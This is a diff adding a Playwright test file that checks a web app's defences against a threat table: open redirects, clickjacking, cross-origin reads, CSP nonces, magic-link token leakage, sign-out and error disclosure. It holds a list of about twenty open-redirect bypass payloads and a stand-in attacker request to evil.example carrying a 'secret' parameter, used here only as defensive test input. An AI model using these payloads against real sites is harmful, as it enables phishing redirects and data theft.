@@ -1,0 +1,369 @@
+/**
+ * What an attacker tries on the running product, by HTTP and in a browser; each test is named by its rows of the threat
+ * table. Longer than 300 lines: one server is started once, and every attempt is shown against it in one place.
+ */
+import { createServer, type Server } from 'node:http';
+import { once } from 'node:events';
+import { type BrowserContext, expect, type Page, test } from '@playwright/test';
+import { type Account, codeOf, connect, openAccount, PASSWORD, rest } from './support/client.ts';
+import { linkIn, type RunningServer, startServer } from './support/server.ts';
+
+let server: RunningServer;
+let account: Account;
+let other: Account;
+/** A site of somebody else: another port is another origin. */
+let evil: { url: string; server: Server };
+
+test.beforeAll(async () => {
+  server = await startServer();
+  account = await openAccount(server, 'grace@example.com', {
+    full_name: 'Grace Lindqvist',
+    first_name: 'Grace',
+  });
+  other = await openAccount(server, 'other@example.com', { full_name: 'Other Person' });
+  const site = createServer((request, response) => {
+    response.setHeader('content-type', 'text/html');
+    response.end(
+      request.url === '/frame'
+        ? `<!doctype html><title>Win</title><iframe src="${server.url}/account"></iframe>`
+        : '<!doctype html><title>Evil</title>',
+    );
+  }).listen(0, '127.0.0.1');
+  await once(site, 'listening');
+  const address = site.address();
+  if (address === null || typeof address === 'string') throw new Error('no port');
+  evil = { url: `http://127.0.0.1:${address.port}`, server: site };
+});
+test.afterAll(async () => {
+  evil.server.close();
+  await server.stop();
+});
+
+async function signIn(page: Page, at = '/login'): Promise<void> {
+  await page.goto(server.url + at);
+  await page.getByLabel('Email').fill(account.email);
+  await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
+  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+}
+
+/** A page somebody is signed in on, at their account. */
+async function atAccount(context: BrowserContext): Promise<Page> {
+  const page = await context.newPage();
+  await signIn(page, '/login?next=/account');
+  await expect(page.getByRole('heading', { level: 1, name: 'My account' })).toBeVisible();
+  return page;
+}
+
+test('threat 39: the performance log takes short lines about oneself, and shows one’s own', async () => {
+  const log = (row: Record<string, unknown>) =>
+    rest(server, 'query_performance_log', {
+      method: 'POST',
+      token: account.accessToken,
+      body: JSON.stringify({ query_type: 'events/list', execution_time_ms: 12, cache_hit: false, ...row }),
+    });
+  expect((await log({ user_id: account.userId })).status).toBe(201);
+  expect((await log({ query_type: 'x'.repeat(10_000_000) })).status).toBe(413);
+  for (const wrong of [{ query_type: 'x'.repeat(101) }, { execution_time_ms: 600_001 }]) {
+    const refused = await log(wrong);
+    expect([refused.status, codeOf(refused.text)]).toEqual([400, '23514']);
+  }
+  const foreign = await log({ user_id: other.userId });
+  expect([foreign.status, codeOf(foreign.text)]).toEqual([403, '42501']);
+  const seen = await rest(server, 'query_performance_log?select=user_id', { token: other.accessToken });
+  expect([seen.status, seen.text]).toEqual([200, '[]']);
+});
+
+test('threat 40: whatever is reported about the policy is answered 204, and the host goes on', async () => {
+  const report = (body: string) => fetch(`${server.url}/api/csp-violation`, { method: 'POST', body });
+  for (const body of ['', '{', '[]', JSON.stringify({ blockedURI: `x\n${'y'.repeat(9000)}` })]) {
+    expect((await report(body)).status).toBe(204);
+  }
+  expect((await report('z'.repeat(1_000_000))).status).toBe(204);
+  const flood = await Promise.all(
+    Array.from({ length: 60 }, (_, n) =>
+      report(JSON.stringify({ blockedURI: `https://flood.example/${n}` })),
+    ),
+  );
+  expect(new Set(flood.map(({ status }) => status))).toEqual(new Set([204]));
+  expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
+  // Only admins read what was kept.
+  expect((await rest(server, 'csp_reports', { token: account.accessToken })).text).toBe('[]');
+  expect((await rest(server, 'csp_reports')).status).toBe(401);
+});
+
+test('threat 40: a page tells what its policy stopped, and waits for no answer', async ({ page }) => {
+  await page.goto(`${server.url}/login`);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  const told = page.waitForRequest((request) => request.postData()?.includes('"blockedURI"') === true);
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/pixel.png?secret=1';
+  });
+  const request = await told;
+  expect(new URL(request.url()).pathname).toBe('/api/csp-violation');
+  expect(request.postDataJSON()).toMatchObject({
+    violatedDirective: 'img-src',
+    disposition: 'enforce',
+    documentURI: `${server.url}/login`,
+  });
+  expect((await request.response())?.status()).toBe(204);
+});
+
+test('threat 41: the zones are asked for once an hour, however many pages show them', async ({ page }) => {
+  let asked = 0;
+  page.on('request', (request) => {
+    if (request.method() !== 'OPTIONS' && request.url().includes('get_timezone_names')) asked += 1;
+  });
+  await signIn(page, '/login?next=/settings');
+  await expect(page.getByLabel('Time zone')).toBeVisible();
+  await page.getByRole('link', { name: 'Account settings', exact: true }).first().click();
+  await expect(page.getByLabel('First name')).toBeVisible();
+  await page.goBack();
+  await expect(page.getByRole('heading', { level: 1, name: 'Preferences' })).toBeVisible();
+  expect(asked).toBe(1);
+});
+
+/** Ways out of the site that `next` and `from` might be talked into (threat 56). */
+const WAYS_OUT = [
+  '//evil.example',
+  '///evil.example',
+  '////evil.example/x',
+  '/\\evil.example',
+  '\\\\evil.example',
+  '/\\/evil.example',
+  'https://evil.example',
+  'https:evil.example',
+  'https:///evil.example',
+  'HTTPS://EVIL.EXAMPLE',
+  'http://2130706433/',
+  'https://localhost@evil.example',
+  'https://localhost.evil.example',
+  'javascript:document.title="owned"',
+  ' javascript:document.title="owned"',
+  'data:text/html,owned',
+  '%2f%2fevil.example',
+  '/%09/evil.example',
+  '/\t/evil.example',
+  '/..//evil.example',
+];
+
+test('threat 56: no way out of the site is taken after signing in', async ({ context }) => {
+  expect(WAYS_OUT).toHaveLength(20);
+  const page = await atAccount(context);
+  const left: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).hostname !== 'localhost') left.push(request.url());
+  });
+  for (const [n, way] of WAYS_OUT.entries()) {
+    const name = n % 2 === 0 ? 'next' : 'from';
+    await page.goto(`${server.url}/login?${name}=${encodeURIComponent(way)}`);
+    await expect(page).not.toHaveURL(/\/login/);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    expect([way, new URL(page.url()).origin]).toEqual([way, server.url]);
+    expect(await page.title()).not.toBe('owned');
+  }
+  expect(left).toEqual([]);
+});
+
+/** The link of a fresh mail that signs in. */
+async function mailedLink(redirectTo: string): Promise<string> {
+  const client = await connect(server);
+  const before = (await server.mails(account.email)).length;
+  const { error } = await client.auth.signInWithOtp({
+    email: account.email,
+    options: { emailRedirectTo: redirectTo, shouldCreateUser: false },
+  });
+  if (error) throw error;
+  await expect.poll(async () => (await server.mails(account.email)).length).toBeGreaterThan(before);
+  return linkIn(await server.mail(account.email, /sign/i), '/auth/magic-link');
+}
+
+test('threats 56, 57, 59: a mailed link survives scanners, leaves the address, and leads nowhere else', async ({
+  browser,
+}) => {
+  const link = await mailedLink('https://evil.example/take');
+  const token = new URL(link).searchParams.get('token_hash') ?? '';
+  expect(token.length).toBeGreaterThan(20);
+  expect(link).not.toContain('evil.example');
+  // A scanner fetches the address, and another one runs its scripts: neither presses the button.
+  for (let n = 0; n < 2; n += 1) expect((await fetch(link)).status).toBe(200);
+  const scanner = await browser.newContext();
+  const scanned = await scanner.newPage();
+  await scanned.goto(link);
+  await expect(scanned.getByRole('button', { name: 'Sign in' })).toBeVisible();
+  await scanner.close();
+
+  const reader = await browser.newContext();
+  const page = await reader.newPage();
+  const seen: { url: string; referer: string | undefined }[] = [];
+  page.on('request', (request) => {
+    if (request.url() !== link) seen.push({ url: request.url(), referer: request.headers()['referer'] });
+  });
+  const document = await page.goto(`${link}&next=${encodeURIComponent('//evil.example')}`);
+  expect(document?.headers()['referrer-policy']).toBe('no-referrer');
+  await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
+  await expect(page).toHaveURL(`${server.url}/auth/magic-link`);
+  const opened = seen.shift();
+  expect(opened?.url).toContain(token);
+  expect(opened?.referer).toBeUndefined();
+  await page.getByRole('button', { name: 'Sign in' }).click();
+  await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
+  expect(new URL(page.url()).origin).toBe(server.url);
+  // From the document on, no address and no referrer carried the token.
+  expect(seen.length).toBeGreaterThan(2);
+  expect(seen.filter(({ url, referer }) => `${url} ${referer ?? ''}`.includes(token))).toEqual([]);
+  // Back does not bring it to the address bar again.
+  await page.goBack();
+  expect(page.url()).not.toContain(token);
+  await reader.close();
+});
+
+test('threat 61: after signing out, Back shows nothing, and other tabs are signed out too', async ({
+  context,
+}) => {
+  const tab = await atAccount(context);
+  const beside = await context.newPage();
+  await beside.goto(`${server.url}/account`);
+  await expect(beside.getByText(account.email).first()).toBeVisible();
+  const answer = await rest(server, 'profiles', { token: account.accessToken });
+  expect(answer.headers.get('cache-control')).toBe('no-store');
+  // A tab that is away at another document is brought back from the browser's own memory, if at all.
+  const away = await context.newPage();
+  await away.goto(`${server.url}/account`);
+  await expect(away.getByText(account.email).first()).toBeVisible();
+  await away.goto(`${evil.url}/`);
+
+  // A page later, so that Back has the account to go to.
+  await tab.getByRole('link', { name: 'Change my details' }).click();
+  await expect(tab.getByLabel('First name')).toHaveValue('Grace');
+  await tab.getByRole('button', { name: 'Sign out', exact: true }).click();
+  await expect(tab).toHaveURL(`${server.url}/`);
+  await expect(beside).toHaveURL(`${server.url}/login`);
+  await expect(beside.getByText('Authentication Required').first()).toBeVisible();
+  await tab.goBack();
+  await expect(tab).toHaveURL(`${server.url}/login`);
+  await away.goBack();
+  await expect(away).toHaveURL(`${server.url}/login`);
+  for (const page of [tab, beside, away]) {
+    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
+    expect(await page.locator('body').innerText()).not.toContain(account.email);
+  }
+  expect(await tab.evaluate(() => Object.keys(localStorage).filter((key) => key.includes('auth')))).toEqual(
+    [],
+  );
+  // The server has ended the session as well.
+  const gone = await rest(server, 'rpc/is_super_admin_user', { method: 'POST', body: '{}' });
+  expect(gone.text).toBe('false');
+});
+
+test('threat 97: no document can be framed', async ({ page }) => {
+  for (const path of ['/', '/login', '/account', '/terms', '/rsvp/none', '/nothing/here', '/mail']) {
+    const { headers } = await fetch(server.url + path);
+    expect([path, headers.get('x-frame-options')]).toEqual([path, 'DENY']);
+    expect([path, headers.get('content-security-policy')]).toEqual([
+      path,
+      expect.stringContaining("frame-ancestors 'none'"),
+    ]);
+  }
+  const refused = page.waitForEvent('console', (message) => /frame/i.test(message.text()));
+  await page.goto(`${evil.url}/frame`);
+  expect((await refused).text()).toContain('frame-ancestors');
+  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
+});
+
+test('threat 99: another site reads nothing that this browser is let into', async ({ page }) => {
+  for (const origin of ['https://evil.example', 'null']) {
+    for (const path of [
+      '/rest/v1/profiles',
+      '/auth/v1/user',
+      '/config.json',
+      '/account',
+      '/api/csp-violation',
+    ]) {
+      for (const method of ['GET', 'OPTIONS']) {
+        const { headers } = await fetch(server.url + path, { method, headers: { origin } });
+        const allowed = headers.get('access-control-allow-origin');
+        // The API is open to all sites because it knows nobody by a cookie; the rest is open to none.
+        expect([path, method, allowed]).toEqual([path, method, /\/v1\//.test(path) ? '*' : null]);
+        expect(headers.get('access-control-allow-credentials')).toBeNull();
+        expect(headers.get('set-cookie')).toBeNull();
+      }
+    }
+  }
+  await page.goto(`${evil.url}/`);
+  const read = (path: string) =>
+    page.evaluate(
+      (address) =>
+        fetch(address, { credentials: 'include' }).then(
+          (answer) => answer.text(),
+          (error: unknown) => (error instanceof TypeError ? 'unreadable' : 'odd'),
+        ),
+      server.url + path,
+    );
+  expect(await read('/config.json')).toBe('unreadable');
+  // With the browser's credentials along, even the open API is closed.
+  expect(await read('/rest/v1/plan_limits')).toBe('unreadable');
+});
+
+test('threat 100: every script and style of a document carries its nonce, and none is repeated', async () => {
+  const nonces = new Set<string>();
+  const paths = [
+    '/',
+    '/login',
+    '/account',
+    '/terms',
+    '/pricing',
+    '/templates/wedding',
+    '/rsvp/none',
+    '/nothing',
+  ];
+  for (const path of paths) {
+    const answer = await fetch(server.url + path);
+    const policy = answer.headers.get('content-security-policy') ?? '';
+    const nonce = /style-src (?:'self' )?'nonce-([\w-]{22})'/.exec(policy)?.[1] ?? 'none';
+    nonces.add(nonce);
+    // The reply page runs no script at all, so that its policy allows none.
+    const scripts = path.startsWith('/rsvp/')
+      ? "default-src 'none'"
+      : `script-src 'nonce-${nonce}' 'strict-dynamic'`;
+    expect([path, policy]).toEqual([path, expect.stringContaining(scripts)]);
+    const html = await answer.text();
+    const bare = [...html.matchAll(/<(?:script|style)\b[^>]*>/g)].filter(
+      ([tag]) => !tag.includes(`nonce="${nonce}"`),
+    );
+    expect([path, bare.map(([tag]) => tag)]).toEqual([path, []]);
+    // What no nonce covers: handlers and styles in attributes.
+    expect([path, html.match(/<[^>]+\s(?:on[a-z]+|style)=/g)]).toEqual([path, null]);
+  }
+  expect(nonces.size).toBe(paths.length);
+});
+
+test('threat 106: no answer to nonsense tells how the server is made', async () => {
+  const headers = { 'content-type': 'application/json', authorization: `Bearer ${account.accessToken}` };
+  const { text: key } = await rest(server, 'plan_limits?limit=1');
+  expect(key).toContain('plan_type');
+  const attempts: [string, RequestInit][] = [
+    ['/rest/v1/events?select=nothing', {}],
+    ['/rest/v1/events?id=eq.x', {}],
+    ['/rest/v1/events', { method: 'POST', body: '{' }],
+    ['/rest/v1/rpc/none', { method: 'POST', body: '{}' }],
+    ['/rest/v1/rpc/preview_import', { method: 'POST', body: '{"org_id": 7}' }],
+    ['/auth/v1/token?grant_type=odd', { method: 'POST', body: '{}' }],
+    ['/auth/v1/signup', { method: 'POST', body: '[]' }],
+    ['/functions/v1/none', { method: 'POST', body: '{}' }],
+    ['/config.json', { method: 'POST', body: '{}' }],
+    ['/%zz', {}],
+    ['/nothing/here', { method: 'POST', body: 'x' }],
+    ['/assets/none.js', {}],
+  ];
+  for (const [path, init] of attempts) {
+    const answer = await fetch(server.url + path, { ...init, headers });
+    const text = await answer.text();
+    expect([path, answer.status < 500]).toEqual([path, true]);
+    expect([path, text]).toEqual([
+      path,
+      expect.not.stringMatching(
+        /\bat \S+ \(|\.(ts|mjs|js):\d+|node_modules|PGlite|postgres|supabase-embedded|\/home\/|\/packages\//i,
+      ),
+    ]);
+  }
+});
